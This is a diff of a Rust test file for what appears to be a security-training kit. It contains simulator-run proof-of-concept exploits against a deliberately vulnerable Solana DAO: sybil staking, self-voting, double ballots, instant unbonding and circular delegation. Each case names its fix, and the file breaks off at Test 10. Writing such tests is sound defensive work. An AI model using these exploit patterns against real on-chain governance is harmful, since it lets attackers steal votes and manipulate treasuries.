@@ -1,153 +1,999 @@
 mod utils;
 
+use litesvm::{types::TransactionResult, LiteSVM};
 use litesvm_token::{CreateAssociatedTokenAccount, CreateMint, MintTo};
-use solana_sdk::{signature::Signer, transaction::Transaction};
+use solana_sdk::{
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
 use spl_associated_token_account::get_associated_token_address;
 use utils::*;
 
+// DAO with a single staker-to-be and their profile
+struct StakerState {
+    dao: DaoScenario,
+    user: Keypair,
+    profile: Pubkey,
+    token_account: Pubkey,
+}
+
+// DAO with a staked voter and a target profile to vote on
+struct VoterState {
+    dao: DaoScenario,
+    voter: Keypair,
+    voter_profile: Pubkey,
+    target_registry: Pubkey,
+    target_profile: Pubkey,
+}
+
+// Funded users with no DAO, for username registry scenarios
+struct UsersState {
+    svm: LiteSVM,
+    first: Keypair,
+    second: Keypair,
+}
+
 // Test 1: Demonstrate no minimum stake requirement vulnerability
 // Users can stake 1 lamport and gain voting rights (sybil attack)
+struct NoMinimumStake;
+
+impl ExploitScenario for NoMinimumStake {
+    type State = StakerState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "No Minimum Stake Enforcement",
+            severity: Severity::Medium,
+            lesson: "Enforce the configured minimum stake before granting voting rights",
+        }
+    }
+
+    fn setup(&self) -> StakerState {
+        let minimum_stake = 100_000;
+        let mut dao = setup_dao_scenario(minimum_stake);
+        let user = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Admin: {}", dao.admin.pubkey());
+        println!("[Setup] User (attacker): {}", user.pubkey());
+
+        let token_account = dao.fund_tokens(&user.pubkey(), 1_000_000);
+        let (_, profile) = dao.create_profile(&user, "alice");
+        println!("[Step 1] DAO and Treasury initialized (minimum_stake = 100,000 tokens)");
+        println!("[Step 2] User profile created");
+
+        StakerState { dao, user, profile, token_account }
+    }
+
+    fn exploit(&self, state: &mut StakerState) -> TransactionResult {
+        // EXPLOIT: Stake only 1 token (far below minimum_stake of 100_000)
+        // In secure version this would fail with MinimumStakeRequired error
+        // In vulnerable version this succeeds, allowing sybil attacks
+        println!("\n[EXPLOIT] Attempting to stake only 1 token (minimum is 100,000)");
+        let tiny_stake = 1;
+
+        state.dao.stake(&state.user, &state.profile, &state.token_account, tiny_stake)
+    }
+
+    fn assert_impact(&self, state: &mut StakerState) -> u64 {
+        assert_eq!(get_stake_amount(&state.dao.svm, &state.profile), 1);
+
+        println!("[EXPLOIT] SUCCESS: Staked 1 token despite 100,000 minimum!");
+        println!("[VULNERABILITY] Sybil attack enabled - attacker can create many low-stake accounts");
+
+        0
+    }
+}
+
 #[test]
 fn test_exploit_no_minimum_stake() {
-    println!("\n=== EXPLOIT TEST: No Minimum Stake Enforcement ===\n");
+    run_exploit(&NoMinimumStake);
+}
 
-    let mut svm = setup_svm();
-    let admin = create_funded_account(&mut svm, 10_000_000_000);
-    let user = create_funded_account(&mut svm, 10_000_000_000);
+// Test 2: Demonstrate self-voting vulnerability
+// Users can vote for themselves to inflate reputation
+struct SelfVoting;
+
+impl ExploitScenario for SelfVoting {
+    type State = VoterState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Self-Voting Allowed",
+            severity: Severity::Medium,
+            lesson: "Reject votes where the voter and the target profile are the same user",
+        }
+    }
+
+    fn setup(&self) -> VoterState {
+        let mut dao = setup_dao_scenario(10);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let token_account = dao.fund_tokens(&attacker.pubkey(), 1_000_000);
+        let (registry, profile) = dao.create_profile(&attacker, "hacker");
+        dao.stake(&attacker, &profile, &token_account, 100).unwrap();
+        println!("[Step 1] Attacker staked tokens and created profile");
+
+        VoterState {
+            dao,
+            voter: attacker,
+            voter_profile: profile,
+            target_registry: registry,
+            target_profile: profile,
+        }
+    }
+
+    fn exploit(&self, state: &mut VoterState) -> TransactionResult {
+        // EXPLOIT: Vote for yourself
+        // In secure version this would fail with CannotVoteForSelf error
+        // In vulnerable version this succeeds, allowing reputation inflation
+        println!("\n[EXPLOIT] Attacker votes for themselves");
+        let attacker = &state.voter;
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&attacker.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&attacker.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&attacker.pubkey(), "hacker");
+
+        let upvote_ix = upvote_instruction(
+            &attacker.pubkey(),
+            &state.dao.admin.pubkey(),
+            &state.dao.config_pda,
+            &state.voter_profile,
+            &state.target_registry,
+            &state.target_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "hacker",
+        );
+
+        state.dao.send(upvote_ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut VoterState) -> u64 {
+        assert!(get_reputation(&state.dao.svm, &state.voter_profile) > 0);
+
+        println!("[EXPLOIT] SUCCESS: Self-vote allowed!");
+        println!("[VULNERABILITY] Attacker can inflate their own reputation indefinitely");
+
+        0
+    }
+}
 
-    println!("[Setup] Admin: {}", admin.pubkey());
-    println!("[Setup] User (attacker): {}", user.pubkey());
+#[test]
+fn test_exploit_self_voting() {
+    run_exploit(&SelfVoting);
+}
 
-    let mint = CreateMint::new(&mut svm, &admin)
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
+// Test 3: Demonstrate no cooldown enforcement vulnerability
+// Users can spam votes without waiting for cooldown
+struct NoCooldownEnforcement;
+
+impl ExploitScenario for NoCooldownEnforcement {
+    type State = VoterState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V003",
+            title: "No Vote Cooldown Enforcement",
+            severity: Severity::Medium,
+            lesson: "Check the voter's cooldown timestamp before accepting another vote",
+        }
+    }
+
+    fn setup(&self) -> VoterState {
+        let mut dao = setup_dao_scenario(10);
+        let voter = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let target = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        let voter_token_account = dao.fund_tokens(&voter.pubkey(), 1_000_000);
+        let (_, voter_profile) = dao.create_profile(&voter, "voter");
+        let (target_registry, target_profile) = dao.create_profile(&target, "target");
+        dao.stake(&voter, &voter_profile, &voter_token_account, 100).unwrap();
+
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&voter.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&voter.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&voter.pubkey(), "target");
+
+        let upvote_ix = upvote_instruction(
+            &voter.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &voter_profile,
+            &target_registry,
+            &target_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "target",
+        );
+        dao.send(upvote_ix, &voter).unwrap();
+
+        // Second target to vote on right after the first vote
+        let target2 = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let (target2_registry, target2_profile) = dao.create_profile(&target2, "target2");
+
+        VoterState {
+            dao,
+            voter,
+            voter_profile,
+            target_registry: target2_registry,
+            target_profile: target2_profile,
+        }
+    }
+
+    fn exploit(&self, state: &mut VoterState) -> TransactionResult {
+        // EXPLOIT: Try to vote again immediately (should fail due to 24h cooldown for Members)
+        // But vulnerable version has no cooldown check, so user can vote on different users
+        let voter = &state.voter;
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&voter.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&voter.pubkey());
+        let (vote_record2, _) = derive_vote_record_pda(&voter.pubkey(), "target2");
+
+        let upvote_ix2 = upvote_instruction(
+            &voter.pubkey(),
+            &state.dao.admin.pubkey(),
+            &state.dao.config_pda,
+            &state.voter_profile,
+            &state.target_registry,
+            &state.target_profile,
+            &vote_cooldown,
+            &vote_record2,
+            &vote_history,
+            "target2",
+        );
+
+        // In secure version this would fail with VoteCooldownActive error
+        // In vulnerable version this succeeds immediately
+        state.dao.send(upvote_ix2, voter)
+    }
+
+    fn assert_impact(&self, state: &mut VoterState) -> u64 {
+        assert!(get_reputation(&state.dao.svm, &state.target_profile) > 0);
+        0
+    }
+}
 
-    let user_token_account = CreateAssociatedTokenAccount::new(&mut svm, &admin, &mint)
-        .owner(&user.pubkey())
-        .send()
-        .unwrap();
+#[test]
+fn test_exploit_no_cooldown_enforcement() {
+    run_exploit(&NoCooldownEnforcement);
+}
 
-    MintTo::new(&mut svm, &admin, &mint, &user_token_account, 1_000_000)
-        
-        .send()
-        .unwrap();
+// Test 4: Demonstrate single-character username vulnerability
+struct SingleCharUsername;
+
+impl ExploitScenario for SingleCharUsername {
+    type State = UsersState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V004",
+            title: "Single-Character Username Accepted",
+            severity: Severity::Low,
+            lesson: "Enforce a minimum username length so short names cannot be squatted",
+        }
+    }
+
+    fn setup(&self) -> UsersState {
+        let mut svm = setup_svm();
+        let first = create_funded_account(&mut svm, 10_000_000_000);
+        let second = create_funded_account(&mut svm, 10_000_000_000);
+
+        UsersState { svm, first, second }
+    }
+
+    fn exploit(&self, state: &mut UsersState) -> TransactionResult {
+        let user = &state.first;
+        let (user_registry, _) = derive_user_registry_pda("a");
+        let (user_profile, _) = derive_user_profile_pda(&user.pubkey());
+
+        // EXPLOIT: Create profile with single-character username
+        // In secure version this would fail with InvalidUsername error (MIN = 3)
+        // In vulnerable version this succeeds (MIN = 1)
+        let create_profile_ix =
+            create_profile_instruction(&user.pubkey(), &user_registry, &user_profile, "a");
+
+        let tx = Transaction::new_signed_with_payer(
+            &[create_profile_ix],
+            Some(&user.pubkey()),
+            &[user],
+            state.svm.latest_blockhash(),
+        );
+
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut UsersState) -> u64 {
+        let (user_registry, _) = derive_user_registry_pda("a");
+        assert_eq!(get_registry_owner(&state.svm, &user_registry), state.first.pubkey());
+        0
+    }
+}
 
-    let (config_pda, _) = derive_config_pda(&admin.pubkey());
-    let minimum_stake = 100_000;
+#[test]
+fn test_exploit_single_char_username() {
+    run_exploit(&SingleCharUsername);
+}
 
-    let init_dao_ix = init_dao_instruction(
-        &admin.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        minimum_stake,
-        &mint,
-        5,
-    );
+// Test 5: Demonstrate Member rank can downvote vulnerability
+struct MemberCanDownvote;
+
+impl ExploitScenario for MemberCanDownvote {
+    type State = VoterState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V005",
+            title: "Member Rank Can Downvote",
+            severity: Severity::Medium,
+            lesson: "Gate downvotes behind the rank that is meant to earn them",
+        }
+    }
+
+    fn setup(&self) -> VoterState {
+        let mut dao = setup_dao_scenario(10);
+        let member = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let target = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        let member_token_account = dao.fund_tokens(&member.pubkey(), 1_000_000);
+        let (_, member_profile) = dao.create_profile(&member, "member");
+        let (target_registry, target_profile) = dao.create_profile(&target, "victim");
+        dao.stake(&member, &member_profile, &member_token_account, 100).unwrap();
+
+        VoterState {
+            dao,
+            voter: member,
+            voter_profile: member_profile,
+            target_registry,
+            target_profile,
+        }
+    }
+
+    fn exploit(&self, state: &mut VoterState) -> TransactionResult {
+        // EXPLOIT: Member rank (reputation 0) tries to downvote
+        // In secure version this would fail with CannotDownvote error (needs Bronze+)
+        // In vulnerable version this succeeds
+        let member = &state.voter;
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&member.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&member.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&member.pubkey(), "victim");
+
+        let downvote_ix = downvote_instruction(
+            &member.pubkey(),
+            &state.dao.admin.pubkey(),
+            &state.dao.config_pda,
+            &state.voter_profile,
+            &state.target_registry,
+            &state.target_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "victim",
+        );
+
+        state.dao.send(downvote_ix, member)
+    }
+
+    fn assert_impact(&self, state: &mut VoterState) -> u64 {
+        assert!(get_reputation(&state.dao.svm, &state.target_profile) < 0);
+        0
+    }
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[init_dao_ix],
-        Some(&admin.pubkey()),
-        &[&admin],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+#[test]
+fn test_exploit_member_can_downvote() {
+    run_exploit(&MemberCanDownvote);
+}
 
-    let (treasury_pda, _) = derive_treasury_pda(&admin.pubkey());
-    let (treasury_authority, _) = derive_treasury_authority_pda(&config_pda, &admin.pubkey());
-    let treasury_token_account = get_associated_token_address(&treasury_authority, &mint);
+// Test 6: Demonstrate username duplication vulnerability
+// Note: This might not work as expected because PDA prevents true duplicates
+// But the code doesn't check claimed flag properly
+struct DuplicateUsername;
+
+impl ExploitScenario for DuplicateUsername {
+    type State = UsersState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V006",
+            title: "Duplicate Username Overwrites Registry",
+            severity: Severity::High,
+            lesson: "Create username registries with init, or reject registries that are already claimed",
+        }
+    }
+
+    fn setup(&self) -> UsersState {
+        let mut svm = setup_svm();
+        let user1 = create_funded_account(&mut svm, 10_000_000_000);
+        let user2 = create_funded_account(&mut svm, 10_000_000_000);
+
+        let username = "alice";
+        let (user_registry, _) = derive_user_registry_pda(username);
+        let (user1_profile, _) = derive_user_profile_pda(&user1.pubkey());
+
+        let create_profile_ix1 =
+            create_profile_instruction(&user1.pubkey(), &user_registry, &user1_profile, username);
+
+        let tx = Transaction::new_signed_with_payer(
+            &[create_profile_ix1],
+            Some(&user1.pubkey()),
+            &[&user1],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        UsersState { svm, first: user1, second: user2 }
+    }
+
+    fn exploit(&self, state: &mut UsersState) -> TransactionResult {
+        // Try to create second profile with same username but different user
+        // The registry PDA exists and claimed=true but vulnerable code overwrites it
+        let user2 = &state.second;
+        let username = "alice";
+        let (user_registry, _) = derive_user_registry_pda(username);
+        let (user2_profile, _) = derive_user_profile_pda(&user2.pubkey());
+
+        let create_profile_ix2 =
+            create_profile_instruction(&user2.pubkey(), &user_registry, &user2_profile, username);
+
+        let tx = Transaction::new_signed_with_payer(
+            &[create_profile_ix2],
+            Some(&user2.pubkey()),
+            &[user2],
+            state.svm.latest_blockhash(),
+        );
+
+        // This succeeds because init_if_needed allows reusing registry
+        // and vulnerable code doesn't check if registry.claimed is true
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut UsersState) -> u64 {
+        let (user_registry, _) = derive_user_registry_pda("alice");
+        assert_eq!(get_registry_owner(&state.svm, &user_registry), state.second.pubkey());
+        0
+    }
+}
 
-    let init_treasury_ix = initialize_treasury_instruction(
-        &admin.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &treasury_authority,
-        &treasury_token_account,
-        &mint,
-    );
+#[test]
+fn test_duplicate_username_no_validation() {
+    run_exploit(&DuplicateUsername);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[init_treasury_ix],
-        Some(&admin.pubkey()),
-        &[&admin],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// DAO with an open proposal and the voters taking part in it
+struct ProposalState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    attacker_profile: Pubkey,
+    accomplice: Keypair,
+    accomplice_profile: Pubkey,
+    accomplice_token_account: Pubkey,
+    proposal_pda: Pubkey,
+}
 
-    let (user_registry, _) = derive_user_registry_pda("alice");
-    let (user_profile, _) = derive_user_profile_pda(&user.pubkey());
+// Test 7: Demonstrate proposal double voting and missing stake snapshot
+// The same stake can be counted repeatedly and stake added after
+// proposal creation still counts, flipping the outcome of a proposal
+struct ProposalDoubleVote;
+
+impl ExploitScenario for ProposalDoubleVote {
+    type State = ProposalState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V007",
+            title: "Proposal Double Voting and No Stake Snapshot",
+            severity: Severity::Critical,
+            lesson: "Create ballots with init and only count stake held before the proposal was created",
+        }
+    }
+
+    fn setup(&self) -> ProposalState {
+        let mut dao = setup_dao_scenario_with(|admin, config, mint| {
+            init_dao_instruction_with_params(
+                admin,
+                admin,
+                config,
+                10,
+                mint,
+                5,
+                300,
+                5_000,
+                DEFAULT_UNBONDING_PERIOD,
+                DEFAULT_DECAY_RATE_BPS,
+                DEFAULT_DECAY_EPOCH_SECONDS,
+                DEFAULT_REWARD_RATE_PER_SEC,
+                DEFAULT_STAKE_RAMP_SECONDS,
+            )
+        });
+        let honest = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let accomplice = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Honest voter: {}", honest.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+        println!("[Setup] Accomplice: {}", accomplice.pubkey());
+
+        let mut profiles = Vec::new();
+        for (user, username) in [(&honest, "honest"), (&attacker, "attacker"), (&accomplice, "accomplice")] {
+            let (_, profile) = dao.create_profile(user, username);
+            let token_account = dao.fund_tokens(&user.pubkey(), 1_000_000);
+            profiles.push((profile, token_account));
+        }
+        let (honest_profile, honest_token_account) = profiles[0];
+        let (attacker_profile, attacker_token_account) = profiles[1];
+        let (accomplice_profile, accomplice_token_account) = profiles[2];
+
+        dao.stake(&honest, &honest_profile, &honest_token_account, 250).unwrap();
+        dao.stake(&attacker, &attacker_profile, &attacker_token_account, 100).unwrap();
+        println!("[Step 1] Honest voter staked 250, attacker staked 100");
+
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &honest.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &honest_profile,
+            &proposal_pda,
+            "Keep treasury locked",
+        );
+        dao.send(create_proposal_ix, &honest).unwrap();
+
+        let (honest_ballot, _) = derive_ballot_pda(&proposal_pda, &honest.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &honest.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &honest_profile,
+            &proposal_pda,
+            &honest_ballot,
+            false,
+        );
+        dao.send(ballot_ix, &honest).unwrap();
+        println!("[Step 2] Proposal created, honest voter votes against with 250 stake");
+
+        ProposalState {
+            dao,
+            attacker,
+            attacker_profile,
+            accomplice,
+            accomplice_profile,
+            accomplice_token_account,
+            proposal_pda,
+        }
+    }
+
+    fn exploit(&self, state: &mut ProposalState) -> TransactionResult {
+        let dao = &mut state.dao;
+
+        // EXPLOIT 1: Cast the same ballot twice
+        // In secure version the second ballot fails because the ballot PDA uses 'init'
+        // In vulnerable version init_if_needed reuses the ballot and adds the stake again
+        println!("\n[EXPLOIT] Attacker casts the same 100-stake ballot twice");
+        let (attacker_ballot, _) = derive_ballot_pda(&state.proposal_pda, &state.attacker.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &state.attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.attacker_profile,
+            &state.proposal_pda,
+            &attacker_ballot,
+            true,
+        );
+
+        for _ in 0..2 {
+            dao.svm.expire_blockhash();
+            let result = dao.send(ballot_ix.clone(), &state.attacker);
+            assert!(result.is_ok(), "VULNERABILITY: Repeated ballot accepted");
+        }
+
+        // EXPLOIT 2: Stake after the proposal was created and vote
+        // In secure version this fails with StakeAfterProposal
+        // In vulnerable version stake acquired mid-vote counts in full
+        println!("[EXPLOIT] Accomplice stakes 100 after proposal creation and votes in favor");
+        dao.stake(
+            &state.accomplice,
+            &state.accomplice_profile,
+            &state.accomplice_token_account,
+            100,
+        )
+        .unwrap();
 
-    let create_profile_ix =
-        create_profile_instruction(&user.pubkey(), &user_registry, &user_profile, "alice");
+        let (accomplice_ballot, _) = derive_ballot_pda(&state.proposal_pda, &state.accomplice.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &state.accomplice.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.accomplice_profile,
+            &state.proposal_pda,
+            &accomplice_ballot,
+            true,
+        );
+
+        dao.send(ballot_ix, &state.accomplice)
+    }
+
+    fn assert_impact(&self, state: &mut ProposalState) -> u64 {
+        let dao = &mut state.dao;
+        advance_time(&mut dao.svm, PROPOSAL_VOTING_PERIOD_SECONDS + 1);
+        dao.svm.expire_blockhash();
+
+        let admin = dao.admin.insecure_clone();
+        let finalize_ix = finalize_proposal_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &state.proposal_pda,
+        );
+        dao.send(finalize_ix, &admin).unwrap();
+
+        let (votes_for, votes_against, status) = get_proposal_tally(&dao.svm, &state.proposal_pda);
+        assert_eq!(votes_for, 300, "Attacker's 100 stake counted twice plus late stake");
+        assert_eq!(votes_against, 250);
+        assert_eq!(status, 1, "VULNERABILITY: Proposal passed with inflated tally");
+
+        println!("[EXPLOIT] SUCCESS: Tally {} for vs {} against - proposal passed", votes_for, votes_against);
+        println!("[VULNERABILITY] 200 tokens of real support outvoted 250 tokens of opposition");
+
+        0
+    }
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_profile_ix],
-        Some(&user.pubkey()),
-        &[&user],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Step 1] DAO and Treasury initialized (minimum_stake = 100,000 tokens)");
-    println!("[Step 2] User profile created");
+#[test]
+fn test_exploit_proposal_double_vote() {
+    run_exploit(&ProposalDoubleVote);
+}
+
+// Test 8: Demonstrate unbonding period bypass
+// Unstaked tokens can be claimed in the same block, so the lockup never applies
+struct InstantUnbondingClaim;
+
+impl ExploitScenario for InstantUnbondingClaim {
+    type State = StakerState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V008",
+            title: "Unbonding Period Not Enforced",
+            severity: Severity::High,
+            lesson: "Check the unbonding ticket's unlock time before releasing unstaked tokens",
+        }
+    }
+
+    fn setup(&self) -> StakerState {
+        let mut dao = setup_dao_scenario(10);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let token_account = dao.fund_tokens(&attacker.pubkey(), 1_000_000);
+        let (_, profile) = dao.create_profile(&attacker, "flipper");
+        dao.stake(&attacker, &profile, &token_account, 1_000_000).unwrap();
+        println!("[Step 1] Attacker staked 1,000,000 tokens (unbonding period: 7 days)");
+
+        StakerState { dao, user: attacker, profile, token_account }
+    }
+
+    fn exploit(&self, state: &mut StakerState) -> TransactionResult {
+        // EXPLOIT: Unstake and claim in the same transaction
+        // In secure version claim_unbonded fails with UnbondingPeriodActive
+        // In vulnerable version the unlock time is never checked
+        println!("\n[EXPLOIT] Attacker unstakes and claims in a single transaction");
+        let dao = &mut state.dao;
+        let attacker = &state.user;
+        let (unbonding_ticket, _) = derive_unbonding_ticket_pda(&attacker.pubkey());
+
+        let unstake_ix = unstake_tokens_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &state.profile,
+            &unbonding_ticket,
+            1_000_000,
+        );
+
+        let claim_ix = claim_unbonded_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &dao.treasury_authority,
+            &unbonding_ticket,
+            &dao.mint,
+            &state.token_account,
+            &dao.treasury_token_account,
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[unstake_ix, claim_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            dao.svm.latest_blockhash(),
+        );
+
+        dao.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut StakerState) -> u64 {
+        let balance = state.dao.token_balance(&state.token_account);
+        assert_eq!(balance, 1_000_000, "All staked tokens returned immediately");
+
+        println!("[EXPLOIT] SUCCESS: {} tokens back in the wallet with zero wait", balance);
+        println!("[VULNERABILITY] Same tokens can be restaked from another wallet to vote again");
+
+        0
+    }
+}
 
-    // EXPLOIT: Stake only 1 token (far below minimum_stake of 100_000)
-    // In secure version this would fail with MinimumStakeRequired error
-    // In vulnerable version this succeeds, allowing sybil attacks
-    println!("\n[EXPLOIT] Attempting to stake only 1 token (minimum is 100,000)");
-    let tiny_stake = 1;
+#[test]
+fn test_exploit_instant_unbonding_claim() {
+    run_exploit(&InstantUnbondingClaim);
+}
 
-    let stake_ix = stake_tokens_instruction(
-        &user.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &user_profile,
-        &mint,
-        &user_token_account,
-        &treasury_token_account,
-        tiny_stake,
-    );
+// DAO with two staked members and a proposal created by the first
+struct DelegationState {
+    dao: DaoScenario,
+    alice: Keypair,
+    alice_profile: Pubkey,
+    bob: Keypair,
+    bob_profile: Pubkey,
+    proposal_pda: Pubkey,
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[stake_ix],
-        Some(&user.pubkey()),
-        &[&user],
-        svm.latest_blockhash(),
-    );
+// Test 9: Demonstrate circular delegation double-counting
+// Two profiles delegate to each other and both keep voting power,
+// so the same stake is counted more than once in a proposal tally
+struct CircularDelegation;
+
+impl ExploitScenario for CircularDelegation {
+    type State = DelegationState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V009",
+            title: "Circular Delegation Double-Counting",
+            severity: Severity::High,
+            lesson: "Reject delegation to a profile that has itself delegated its power",
+        }
+    }
+
+    fn setup(&self) -> DelegationState {
+        let mut dao = setup_dao_scenario(10);
+        let alice = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let bob = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Alice: {}", alice.pubkey());
+        println!("[Setup] Bob: {}", bob.pubkey());
+
+        let mut profiles = Vec::new();
+        for (user, username) in [(&alice, "alice"), (&bob, "bob")] {
+            let (_, profile) = dao.create_profile(user, username);
+            let token_account = dao.fund_tokens(&user.pubkey(), 1_000_000);
+            dao.stake(user, &profile, &token_account, 100).unwrap();
+            profiles.push(profile);
+        }
+        let (alice_profile, bob_profile) = (profiles[0], profiles[1]);
+        println!("[Step 1] Alice and Bob each staked 100 (200 tokens total)");
+
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &alice.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &alice_profile,
+            &proposal_pda,
+            "Raise delegate rewards",
+        );
+        dao.send(create_proposal_ix, &alice).unwrap();
+        println!("[Step 2] Alice created a proposal");
+
+        DelegationState { dao, alice, alice_profile, bob, bob_profile, proposal_pda }
+    }
+
+    fn exploit(&self, state: &mut DelegationState) -> TransactionResult {
+        // EXPLOIT: Delegate in a circle
+        // In secure version Bob's delegation back to Alice fails with DelegationChainNotAllowed
+        // In vulnerable version Bob passes on Alice's 100 together with his own 100
+        println!("\n[EXPLOIT] Alice delegates to Bob, then Bob delegates back to Alice");
+        let dao = &mut state.dao;
+        let (alice_delegation, _) = derive_delegation_pda(&state.alice.pubkey());
+        let delegate_ix = delegate_votes_instruction(
+            &state.alice.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.alice_profile,
+            &state.bob_profile,
+            &alice_delegation,
+        );
+        dao.send(delegate_ix, &state.alice).unwrap();
+
+        let (bob_delegation, _) = derive_delegation_pda(&state.bob.pubkey());
+        let delegate_ix = delegate_votes_instruction(
+            &state.bob.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.bob_profile,
+            &state.alice_profile,
+            &bob_delegation,
+        );
+
+        dao.send(delegate_ix, &state.bob)
+    }
+
+    fn assert_impact(&self, state: &mut DelegationState) -> u64 {
+        println!("[Step 3] Alice holds 200 delegated power, Bob still holds 100");
+
+        let dao = &mut state.dao;
+        for (user, profile) in [(&state.alice, state.alice_profile), (&state.bob, state.bob_profile)] {
+            let (ballot, _) = derive_ballot_pda(&state.proposal_pda, &user.pubkey());
+            let ballot_ix = cast_ballot_instruction(
+                &user.pubkey(),
+                &dao.admin.pubkey(),
+                &dao.config_pda,
+                &profile,
+                &state.proposal_pda,
+                &ballot,
+                true,
+            );
+
+            let result = dao.send(ballot_ix, user);
+            assert!(result.is_ok(), "Ballot with delegated power should be accepted");
+        }
+
+        let (votes_for, _, _) = get_proposal_tally(&dao.svm, &state.proposal_pda);
+        assert_eq!(votes_for, 300, "200 staked tokens counted as 300 votes");
+
+        println!("[EXPLOIT] SUCCESS: Tally shows {} votes for", votes_for);
+        println!("[VULNERABILITY] Only 200 tokens are staked - Alice's stake was counted twice");
+
+        0
+    }
+}
 
-    // This should fail but succeeds due to missing minimum stake check
-    let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: User staked only 1 token and succeeded");
-    println!("[EXPLOIT] SUCCESS: Staked 1 token despite 100,000 minimum!");
-    println!("[VULNERABILITY] Sybil attack enabled - attacker can create many low-stake accounts");
-    println!("\n=== EXPLOIT DEMONSTRATED ===\n");
+#[test]
+fn test_exploit_circular_delegation() {
+    run_exploit(&CircularDelegation);
+}
+
+// DAO with a victim holding reputation and an attacker with no stake
+struct DecayState {
+    dao: DaoScenario,
+    victim_profile: Pubkey,
+    attacker: Keypair,
+    starting_reputation: i64,
+    calls: u32,
+}
+
+// Test 10: Demonstrate repeated reputation decay within one epoch
+// Decay has no elapsed-epoch check, so anyone can crank it repeatedly
